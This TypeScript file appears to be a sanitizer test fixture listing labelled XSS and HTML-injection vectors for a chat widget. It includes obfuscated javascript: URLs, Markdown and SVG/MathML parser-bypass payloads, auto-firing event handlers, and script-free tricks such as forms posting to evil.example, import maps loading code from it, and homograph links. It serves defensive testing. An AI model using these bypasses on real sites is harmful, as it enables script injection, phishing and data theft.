/**
 * More vectors for `xssVectors.ts`: ways to bypass parsers and allow lists, and ways to affect the page outside of the
 * chat without a script.
 */
const HIT = 'window.__hit&&window.__hit()';
const EVIL = 'https://evil.example';

/** Writes the letters of a word as numeric entities. */
const entities = (text: string, base: 10 | 16) =>
  Array.from(text)
    .map((letter) => `&#${base === 16 ? 'x' : ''}${(letter.codePointAt(0) ?? 0).toString(base)};`)
    .join('');

/** An HTML link to a URL that only some parsers recognise as a script. */
const link = (href: string) => `<a href="${href}">x</a>`;

/** Event handlers that run without user interaction, each on an element that has such an event. */
const HANDLERS: readonly (readonly [string, string])[] = [
  ['body onpageshow', 'body'],
  ['body onhashchange', 'body'],
  ['video oncanplay autoplay', 'video'],
  ['audio onerror src=x', 'audio'],
  ['div oncontentvisibilityautostatechange style=content-visibility:auto', 'div'],
  ['div onscrollend style=overflow:auto', 'div'],
  ['div onwebkitanimationstart', 'div'],
  ['p ontransitionrun', 'p'],
  ['p onbeforecopy contenteditable', 'p'],
  ['a onfocusin tabindex=0 href=https://ok.example', 'a'],
  ['td onpointerrawupdate', 'td'],
  ['li onbeforematch hidden=until-found', 'li'],
  ['summary onauxclick', 'summary'],
  ['ol onselectstart', 'ol'],
  ['input onbeforeinput type=checkbox', 'input'],
];

const BY_HANDLER = HANDLERS.map(([start, tag]): readonly [string, string] => {
  const [name = '', handler = '', ...rest] = start.split(' ');
  return [`the handler ${handler} of ${name}`, `<${name} ${handler}="${HIT}" ${rest.join(' ')}>x</${tag}>`];
});

const SCRIPT_ADDRESSES: readonly (readonly [string, string])[] = [
  ['all in decimal entities', entities('javascript:', 10) + HIT],
  ['all in hexadecimal entities', entities('javascript:', 16) + HIT],
  ['with entities padded by noughts', `&#0000000000106;avascript:${HIT}`],
  ['behind a form feed', `\fjavascript:${HIT}`],
  ['behind a vertical tab', `\vjavascript:${HIT}`],
  ['behind an escape', `\u001bjavascript:${HIT}`],
  ['behind a line separator', `\u2028javascript:${HIT}`],
  ['behind a soft hyphen', `\u00adjavascript:${HIT}`],
  ['with a byte order mark', `\ufeffjavascript:${HIT}`],
  ['with a carriage return in it', `java\rscript:${HIT}`],
  ['with an entity of a line break in it', `java&NewLine;script:${HIT}`],
  ['with a null in it', `java\0script:${HIT}`],
  ['with a colon of full width', `javascript\uff1a${HIT}`],
  ['in letters of full width', `\uff4aavascript:${HIT}`],
  ['with a long s', `java\u017fcript:${HIT}`],
  ['behind a comment', `/**/javascript:${HIT}`],
  ['that looks like a page', `javascript://ok.example/%0a${HIT}`],
  ['behind the source of a page', `view-source:javascript:${HIT}`],
  ['behind a feed', `feed:javascript:${HIT}`],
  ['of an archive', `jar:javascript:${HIT}!/`],
  ['as data with another type', `data:image/svg+xml,<svg onload='${HIT}'>`],
  ['as data in base 64', `data:text/html;charset=utf-8;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`],
  ['as data without a type', `data:,<script>${HIT}</script>`],
  ['of an old browser', `livescript:${HIT}`],
  ['of an old mail program', `mhtml:${EVIL}/x.mht`],
  ['relative to a protocol', `//evil.example/x`],
  ['with slashes the other way', `\\\\evil.example\\x`],
  ['as a file', `filesystem:${EVIL}/temporary/x`],
];

const BY_ADDRESS = SCRIPT_ADDRESSES.map(([what, href]): readonly [string, string] => [
  `a link to a script, ${what}`,
  link(href),
]);

const MARKDOWN: readonly (readonly [string, string])[] = [
  ['a link of Markdown to a script in angles', `[x](<javascript:void 0>)`],
  ['a link of Markdown to a script in entities', `[x](&#106;avascript:void%280%29)`],
  ['a link of Markdown to a script with escapes', `[x](java\\script:void%280%29)`],
  ['a link of Markdown with a line break in it', `[x](java\nscript:void%280%29)`],
  ['a link of Markdown with a handler in its title', `[x](https://ok.example "&quot; onclick=&quot;${HIT}")`],
  ['a link of Markdown with markup for its words', `[<img src=x onerror="${HIT}">](https://ok.example)`],
  ['a link of Markdown in a link', `[a [b](javascript:void%280%29)](javascript:void%280%29)`],
  [
    'a reference with a name that is markup',
    `[<b onmouseover="${HIT}">]: javascript:x\n\n[<b onmouseover="${HIT}">]`,
  ],
  ['a picture of Markdown with a script’s address', `![x](javascript:void%280%29)`],
  ['a picture of Markdown by reference', `![x][1]\n\n[1]: ${EVIL}/x.png`],
  ['a picture of Markdown in a link', `[![x](${EVIL}/x.png)](${EVIL}/)`],
  ['a picture of Markdown with markup for its words', `![<script>${HIT}</script>](${EVIL}/x.png)`],
  ['an address between angles with markup behind it', `<https://ok.example/"onmouseover="${HIT}>`],
  ['an address by itself with a quote in it', `https://ok.example/"onmouseover="${HIT}`],
  ['a mailbox with headers', `<mailto:a@b.example?body=<script>${HIT}</script>>`],
  ['a table whose cells close it', `| a |\n| - |\n| </td></table><img src=x onerror="${HIT}"> |`],
  ['a heading with markup', `# <img src=x onerror="${HIT}">`],
  ['a list of tasks with markup', `- [x] <img src=x onerror="${HIT}">`],
  ['a fence that never closes', `~~~\n</code></pre><img src=x onerror="${HIT}">`],
  ['indented code with markup', `    <script>${HIT}</script>`],
  ['code with more marks than it closes', `\`\`\`<img src=x onerror="${HIT}">\``],
  ['an escape before markup', `\\<img src=x onerror="${HIT}">`],
  ['a footnote whose name is markup', `x[^"><img]\n\n[^"><img]: y`],
];

const PARSERS: readonly (readonly [string, string])[] = [
  ['a style that ends in an attribute', `<style><a title="</style><img src=x onerror=${HIT}>">`],
  ['a style in a drawing', `<svg><style><img src=x onerror="${HIT}"></style></svg>`],
  ['a title in a drawing', `<svg><title><img src=x onerror="${HIT}"></title></svg>`],
  ['a description in a drawing', `<svg><desc><img src=x onerror="${HIT}"></desc></svg>`],
  ['a paragraph that ends a drawing', `<svg></p><style><a id="</style><img src=x onerror=${HIT}>">`],
  [
    'a form in mathematics in a form',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`,
  ],
  [
    'mathematics with an annotation',
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${HIT}">`,
  ],
  [
    'mathematics in a drawing',
    `<svg><math><mi><style><!--</style><img title="--><img src=x onerror=${HIT}>">`,
  ],
  [
    'a drawing in mathematics',
    `<math><mtext><svg><mtext><style><a title="</style><img src=x onerror=${HIT}>">`,
  ],
  ['a link in mathematics', `<math href="javascript:${HIT}">x</math>`],
  ['a link in a drawing', `<svg><a xlink:href="javascript:${HIT}"><text>x</text></a></svg>`],
  ['a picture in a drawing', `<svg><image href="${EVIL}/x.png"/><feImage href="${EVIL}/y.png"/></svg>`],
  [
    'a drawing with a handler that is an element',
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${HIT}</handler></svg>`,
  ],
  [
    'a drawing that is a font',
    `<svg><style>@font-face{font-family:x;src:url(${EVIL}/x.woff)}</style><text>x</text></svg>`,
  ],
  ['text that breaks out of xmp', `<xmp><p title="</xmp><img src=x onerror=${HIT}>">`],
  ['text that breaks out of noembed', `<noembed><p title="</noembed><img src=x onerror=${HIT}>">`],
  ['text that breaks out of noframes', `<noframes><p title="</noframes><img src=x onerror=${HIT}>">`],
  ['text that breaks out of a frame', `<iframe><p title="</iframe><img src=x onerror=${HIT}>">`],
  [
    'text that breaks out of a list of options',
    `<select><style></select><img src=x onerror="${HIT}"></style>`,
  ],
  ['a choice with a template', `<select><template><img src=x onerror="${HIT}"></template></select>`],
  ['a template in a template', `<template><template><script>${HIT}</script></template></template>`],
  [
    'a template with a shadow root of its own kind',
    `<template shadowrootmode=closed shadowrootdelegatesfocus><input autofocus onfocus="${HIT}"></template>`,
  ],
  [
    'a table that pushes markup out of itself',
    `<table><a href="javascript:${HIT}"><tr><td>x</td></tr></a></table>`,
  ],
  ['a caption without a table', `<caption onclick="${HIT}">x</caption><td>y</td>`],
  ['a list of options without a choice', `<option onclick="${HIT}">x</option><optgroup label=x>`],
  ['a comment that ends early', `<!--> <img src=x onerror="${HIT}"> -->`],
  ['a comment that ends with a bang', `<!-- --!> <img src=x onerror="${HIT}"> -->`],
  ['a comment without an end', `<!-- <img src=x onerror="${HIT}">`],
  ['a declaration', `<!ENTITY x SYSTEM "${EVIL}/x"><!DOCTYPE x [<!ENTITY y "z">]>&x;`],
  ['an instruction for a style', `<?xml-stylesheet href="${EVIL}/x.css"?>`],
  ['a conditional section', `<![CDATA[><img src=x onerror="${HIT}">]]>`],
  ['a tag with a quote in its name', `<img"src=x onerror="${HIT}">`],
  ['a tag with a slash in its name', `<a/href="javascript:${HIT}"/onmouseover="${HIT}">x</a>`],
  ['a tag without its end', `<img src=x onerror="${HIT}"`],
  ['a tag with a handler given twice', `<p onclick onclick="${HIT}">x</p>`],
  ['a handler with a null in its name', `<p on\0click="${HIT}">x</p>`],
  ['a handler in capitals of another alphabet', `<p onc\u217cick="${HIT}">x</p>`],
  ['an attribute between accents', `<p title=\`x onmouseover=${HIT}\`>x</p>`],
  [
    'an attribute a hundred thousand letters long',
    `<p title="${'x'.repeat(100_000)}" onmouseover="${HIT}">x</p>`,
  ],
  [
    'an attribute of ten thousand names',
    `<p ${Array.from({ length: 10_000 }, (_, index) => `data-x${index}`).join(' ')}>x</p>`,
  ],
  ['a style and script glued together', `<<script>${HIT}//<</script>`],
];

const REACHING_OUT: readonly (readonly [string, string])[] = [
  [
    'a style over the whole page',
    '<div style="position:fixed;inset:0;z-index:2147483647;background:red">x</div>',
  ],
  ['a style that grows', '<p style="width:9999px;height:9999px;margin:-9999px;transform:scale(99)">x</p>'],
  ['a style with an address in escapes', `<p style="background:\\75\\72\\6c(${EVIL}/x.png)">x</p>`],
  [
    'a style with a set of pictures',
    `<p style="background:image-set('${EVIL}/x.png' 1x);cursor:url(${EVIL}/c.cur),auto">x</p>`,
  ],
  ['a style of an old browser', `<p style="behavior:url(${EVIL}/x.htc);width:expression(${HIT})">x</p>`],
  [
    'a style by variables of the widget',
    '<p style="--la-accent:red;--la-surface:url(https://evil.example/x)">x</p>',
  ],
  [
    'a sheet for the shadow root',
    `<style>:host{display:none!important} ::slotted(*),::part(x){color:red}</style>`,
  ],
  ['a sheet by a link in its body', `<p><link rel=stylesheet href="${EVIL}/x.css" onload="${HIT}"></p>`],
  [
    'sizes of old HTML',
    `<table width=9999 height=9999 border=99 cellpadding=999 bgcolor=red><tr><td width=9999>x</td></tr></table>`,
  ],
  [
    'a place in the shadow root',
    '<p slot="x" part="dialog" exportparts="dialog: x">x</p><slot name="x">y</slot>',
  ],
  [
    'names of functions of the page',
    '<a id="fetch" name="alert">x</a><p id="documentElement" name="getElementById">x</p>',
  ],
  [
    'names of the form of the page',
    '<form id=x><output name=attributes></form><img name=body><embed name=cookie>',
  ],
  ['names that labels point to', '<label for="la-message">x</label><p id="la-message">y</p>'],
  [
    'roles of the widget',
    '<div role="alertdialog" aria-modal="true" aria-label="Log in" aria-live="assertive" tabindex="0">x</div>',
  ],
  [
    'something that is hidden, or not to be reached',
    '<p hidden>x</p><p inert>y</p><p popover="manual">z</p><dialog open>w</dialog>',
  ],
  [
    'data for scripts of the page',
    '<p data-action="delete" data-controller="evil" x-data="{}" v-html="x" ng-app hx-get="https://evil.example">x</p>',
  ],
  [
    'data for scripts of the page that load something',
    `<p data-src="${EVIL}/x.png" data-background="${EVIL}/y.png" itemscope itemtype="${EVIL}">x</p>`,
  ],
  [
    'an element of the page by another name',
    '<button is="x-button" command="show-modal" commandfor="x">x</button>',
  ],
  [
    'a key of the keyboard',
    `<a href="https://ok.example" accesskey="x" draggable="true" download="x.exe">x</a>`,
  ],
  ['a link with words that lie', '<a href="https://аррӏе.example">https://apple.example</a>'],
  ['a link to a name and password', '<a href="https://ok.example@evil.example/">x</a>'],
  ['letters that run the other way', `\u202e\u2066<b>\u202e</b>\u202d evil`],
  ['letters that are piled up', `x${'\u0301\u0316\u0489'.repeat(400)}`],
  ['a word without an end', 'x'.repeat(5_000)],
  ['a line without an end in code', `\`${'x'.repeat(5_000)}\``],
  ['letters that nobody sees', '\u200b\u2060\u00ad\ufeff<b>\u200b</b>.'],
  [
    'a form that sends by enter',
    `<form action="${EVIL}" method=post><input type=image src="${EVIL}/x.png"><input type=submit autofocus></form>`,
  ],
  ['a choice of a file', '<input type=file webkitdirectory onchange="x"><input type=color><keygen name=x>'],
  [
    'a sound and its words',
    `<audio controls src="${EVIL}/x.mp3"><track src="${EVIL}/x.vtt" default></audio>`,
  ],
  [
    'a video with its picture',
    `<video poster="${EVIL}/x.png" src="${EVIL}/x.mp4" autoplay muted loop></video>`,
  ],
  [
    'a portal, and a fence for frames',
    `<portal src="${EVIL}"></portal><fencedframe></fencedframe><webview src="${EVIL}"></webview>`,
  ],
  [
    'a jump to another page in old words',
    `<meta http-equiv=refresh content="0; url=${EVIL}"><meta http-equiv=Set-Cookie content="x=y">`,
  ],
  ['a policy of its own', `<meta http-equiv="Content-Security-Policy" content="default-src 'none'">`],
  [
    'rules for what comes next',
    `<script type=speculationrules>{"prefetch":[{"urls":["${EVIL}/x"]}]}</script>`,
  ],
  ['a map of imports', `<script type=importmap>{"imports":{"react":"${EVIL}/x.js"}}</script>`],
  [
    'hints for connections',
    `<link rel=dns-prefetch href="//evil.example"><link rel=modulepreload href="${EVIL}/x.js"><link rel=prerender href="${EVIL}">`,
  ],
  ['a manifest and an icon', `<link rel=manifest href="${EVIL}/m.json"><link rel=icon href="${EVIL}/x.ico">`],
  [
    'layers that were once drawn',
    `<layer src="${EVIL}/x"></layer><ilayer src="${EVIL}/y"></ilayer><bgsound src="${EVIL}/z">`,
  ],
  [
    'quotations from elsewhere',
    `<blockquote cite="${EVIL}/x">x</blockquote><q cite="javascript:${HIT}">y</q><del cite="${EVIL}">z</del>`,
  ],
];

export const XSS_TRICKS: readonly (readonly [string, string])[] = [
  ...BY_HANDLER,
  ...BY_ADDRESS,
  ...MARKDOWN,
  ...PARSERS,
  ...REACHING_OUT,
];
